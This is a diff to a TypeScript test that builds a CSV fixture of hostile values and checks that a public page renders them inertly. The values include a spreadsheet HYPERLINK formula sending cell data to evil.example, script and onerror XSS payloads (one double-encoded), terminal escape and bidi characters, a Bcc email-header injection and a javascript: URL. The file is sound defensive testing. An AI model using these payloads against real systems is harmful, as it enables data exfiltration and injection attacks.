@@ -21,6 +21,8 @@ afterAll(() => rmSync(folder, { recursive: true }))
 
 const FORMULA = `=HYPERLINK("https://evil.example?x="&A1,"Open")`
 const SCRIPT = `</script><script>alert(1)</script><img src=x onerror=alert(1)>`
+/** Tags are taken out of a description, and codes read, twice: so that it is still there afterwards. */
+const WRAPPED = SCRIPT.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;')
 const STEERING = `Walks \u001b[2J\u0007\u202e of`
 const HEADERS = 'group@example.org\r\nBcc: everybody@example.org'
 
@@ -29,7 +31,7 @@ const table = (columns: string, rows: string[][]) => `${columns}\r\n${rows.map((
 writeFileSync(
   join(folder, 'organizations.csv'),
   table('id,name,description,email,url', [
-    ['o1', FORMULA, SCRIPT, HEADERS, 'javascript:alert(1)'],
+    ['o1', FORMULA, WRAPPED, HEADERS, 'javascript:alert(1)'],
     ['o2', '+31 20 1234567', STEERING, 'right@example.org', 'https://right.example'],
   ]),
 )
@@ -72,6 +74,7 @@ test('words are kept as they came; what is no one address is none to send to, an
     'services.csv:2',
     'services.csv:3',
   ])
+  expect(entries.organisations[0]!.columns.description).toBe(SCRIPT)
 })
 
 test('the public page shows it as text, runs nothing of it and leads nowhere by it', { timeout: 60_000 }, async () => {
